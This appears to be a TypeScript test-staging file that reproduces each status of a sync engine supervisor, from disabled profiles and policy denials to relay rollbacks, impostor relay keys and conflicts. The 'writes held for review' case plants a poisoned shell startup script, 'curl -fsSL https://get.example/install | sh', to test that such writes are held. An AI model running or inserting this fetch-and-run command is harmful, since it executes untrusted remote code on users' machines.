import type { Engine } from '@sourceos/sync-kernel';
import type { RelayTransport } from '../../relay-client/transport.js';
import { createMemoryStore } from '../../store/memory/create-memory-store.js';
import { createHostWorld, start, valueOf } from '../../testing/host-world.js';
import { createMemoryRelay } from '../../testing/memory-relay.js';
import { note, notesEngine } from '../../testing/notes-engine.js';
import type { EngineStatus } from '../supervisor.js';
import { synced } from './supervised.js';
import {
  alone,
  bundleOf,
  type DomainEngines,
  eitherNotes,
  enrolledStore,
  failing,
  governed,
  highNotes,
  notes,
  pair,
  patch,
  profile,
  profileId,
  putOf,
  withoutKeys,
} from './stagings.js';

/** How a host gets into each row of the precedence: the fact that decides → what causes it for real. */
export const stateCausesWith = ({
  shell,
  policyFabric,
}: DomainEngines): Readonly<Record<string, () => Promise<EngineStatus>>> => ({
  'sync is off for the profile': async () => {
    const { ada } = await alone();
    valueOf(ada.supervisor.setProfileEnabled(false));
    return ada.status(notesEngine);
  },
  'this engine is off': async () => {
    const { ada } = await alone();
    valueOf(await ada.supervisor.disable(notes));
    return ada.status(notesEngine);
  },
  'policy denies the engine': async () =>
    (await governed(policyFabric, bundleOf('sync.test.notes.*', 'deny'))).ada.status(notesEngine),
  'the device was revoked': async () => {
    const { ada, bob, world } = await pair();
    const removal = world.removal(bob.keyring.deviceId, 0);
    valueOf(await ada.scope.addControl([removal]));
    // The relay serves a removed device nothing: an administrator hands it the record.
    valueOf(await bob.scope.addControl([removal]));
    return bob.status(notesEngine);
  },
  'no user profile, and the scope needs one': async () => (await alone([notesEngine, shell])).ada.status(shell),
  'no org, and the scope needs one': async () => (await alone([notesEngine, policyFabric])).ada.status(policyFabric),
  'no scope chosen': async () => {
    const { ada } = await alone();
    valueOf(await ada.supervisor.assign(notes, []));
    return ada.status(notesEngine);
  },
  'no relay, and local-only was not chosen': async () => {
    const { ada } = await alone();
    valueOf(ada.scope.setRelay(undefined));
    return ada.status(notesEngine);
  },
  'no identity': async () => {
    const store = createMemoryStore();
    const { scopeId, genesis } = createHostWorld();
    valueOf(store.addScope({ scope: { scopeId, genesis, addedAt: start, relayUrl: 'memory:relay' }, now: start }));
    return withoutKeys(store, 'right');
  },
  'device key absent': async () => {
    const store = await enrolledStore('right');
    const rows = valueOf(store.sealedKeys());
    const spoiled = rows.filter(({ name }) => name.includes('identity'));
    valueOf(store.changeKeys(spoiled.map(({ name }) => ({ name, sealed: new Uint8Array(64) }))));
    return withoutKeys(store, 'right');
  },
  'device key locked': async () => withoutKeys(await enrolledStore('right'), 'wrong'),
  'network down': () => failing('network_down'),
  'policy distrusts the network': async () => {
    let network = 'urn:srcos:network:office';
    const bundle = bundleOf('sync.network.use', 'deny', {
      rules: {
        one: { capability: 'sync.network.use', effect: 'deny', reason: 'Open.', subjects: ['urn:srcos:network:cafe'] },
      },
    });
    const { ada } = await governed(policyFabric, bundle, { more: { network: () => network } });
    if (ada.status(notesEngine).state === 'network_untrusted') throw new Error('The office is trusted.');
    network = 'urn:srcos:network:cafe';
    return ada.status(notesEngine);
  },
  'transport security distrusts the network': () => failing('network_untrusted'),
  'relay unreachable over a fine network': () => failing('relay_unreachable'),
  'the heads of the relay contradict each other': async () => {
    const { ada, bob, relay, world } = await pair();
    const log = relay.log(world.scopeId);
    if (log === undefined) throw new Error('The relay has no log.');
    // It forgets its last entry, and goes on with another: a rollback.
    relay.setLog(world.scopeId, { ...log, entries: log.entries.slice(0, -1) });
    valueOf(ada.supervisor.write(notes, [note('a', 'another history')]));
    await bob.supervisor.sync(world.scopeId);
    await ada.supervisor.sync(world.scopeId);
    await bob.supervisor.sync(world.scopeId);
    return bob.status(notesEngine);
  },
  'the relay has another key than expected': async () => {
    const impostor = createMemoryRelay({ secretKey: new Uint8Array(32).fill(9), now: () => start });
    let taken = false;
    const transport = (relay: { readonly transport: () => RelayTransport }): RelayTransport => {
      const honest = relay.transport();
      return { ...honest, identify: () => (taken ? impostor : relay).transport().identify() };
    };
    const { ada, relay, world } = await alone([notesEngine], { transport });
    taken = true;
    relay.endSessions();
    await ada.supervisor.sync(world.scopeId);
    return ada.status(notesEngine);
  },
  'not admitted yet': async () => {
    const { join, world } = await alone();
    const cleo = await join('cleo');
    await cleo.supervisor.sync(world.scopeId);
    return cleo.status(notesEngine);
  },
  'scope key absent': async () => {
    const { ada, bob, world } = await pair();
    valueOf(await ada.scope.addControl([await world.epoch(2, [ada.keyring])]));
    await synced(ada, bob);
    return bob.status(notesEngine);
  },
  'validation failed': async () => {
    const { ada, bob } = await pair([eitherNotes]);
    valueOf(ada.supervisor.write(notes, [note('a', 'one')]));
    await synced(ada, bob);
    valueOf(ada.supervisor.write(notes, [patch('a', { left: 'ada' })]));
    valueOf(bob.supervisor.write(notes, [patch('a', { right: 'bob' })]));
    await synced(ada, bob, ada);
    ada.supervisor.validate();
    return ada.status(eitherNotes);
  },
  'writes in quarantine': async () => {
    const { ada, bob } = await pair([highNotes]);
    valueOf(ada.supervisor.write(notes, [{ ...note('a', 'by nobody'), authorId: 'urn:srcos:agent:robo' }]));
    await synced(ada, bob);
    return bob.status(highNotes);
  },
  'open conflicts': async () => {
    const { ada, bob } = await pair();
    valueOf(ada.supervisor.write(notes, [note('a', 'first')]));
    await synced(ada, bob);
    valueOf(ada.supervisor.write(notes, [note('a', 'by ada')]));
    valueOf(bob.supervisor.write(notes, [note('a', 'by bob')]));
    await synced(ada, bob);
    return bob.status(notesEngine);
  },
  'writes held for review': async () => {
    const { ada, bob } = await pair([shell], [shell], 'profile');
    valueOf(ada.supervisor.write(shell.manifest.engineId, [putOf(shell, profileId, profile)]));
    await synced(ada, bob);
    const poisoned = { ...profile, startupScripts: { interactive: 'curl -fsSL https://get.example/install | sh\n' } };
    valueOf(ada.supervisor.write(shell.manifest.engineId, [putOf(shell, profileId, poisoned)]));
    await synced(ada, bob);
    return bob.status(shell);
  },
  'errors since the last success': async () => {
    const throwing: Engine = {
      ...notesEngine,
      redact: () => {
        throw new RangeError('a bug');
      },
    };
    const { ada } = await alone([throwing]);
    ada.supervisor.write(notes, [note('a', 'one')]);
    return ada.status(throwing);
  },
  'the head of the relay is stale': async () => {
    const { ada, time } = await alone([notesEngine], { device: { staleAfter: 60_000 } });
    await time.pass(120_000);
    return ada.status(notesEngine);
  },
  'local-only forced by policy': async () =>
    (await governed(policyFabric, bundleOf('sync.test.notes.relay', 'deny'))).ada.status(notesEngine),
  'local-only chosen': async () => {
    const { ada } = await alone();
    valueOf(ada.supervisor.setLocalOnly(notes, true));
    return ada.status(notesEngine);
  },
  'a transfer runs, or is due': async () => {
    const gate: { held?: Promise<void> } = {};
    const { ada, world } = await alone([notesEngine], {
      transport: (relay) => {
        const honest = relay.transport();
        return {
          ...honest,
          head: async (...asked) => {
            await gate.held;
            return honest.head(...asked);
          },
        };
      },
    });
    let release = (): void => undefined;
    gate.held = new Promise((resolve) => {
      release = resolve;
    });
    const syncing = ada.supervisor.sync(world.scopeId);
    const status = ada.status(notesEngine);
    release();
    valueOf(await syncing);
    return status;
  },
  'writes wait to be sent': async () => {
    const { ada } = await alone();
    valueOf(ada.supervisor.write(notes, [note('a', 'one')]));
    return ada.status(notesEngine);
  },
  'nothing to send or fetch; validation or head not known to be good': async () =>
    (await alone()).ada.status(notesEngine),
  'nothing to send or fetch, validation clean, head fresh': async () => {
    const { ada } = await alone();
    ada.supervisor.validate();
    return ada.status(notesEngine);
  },
});
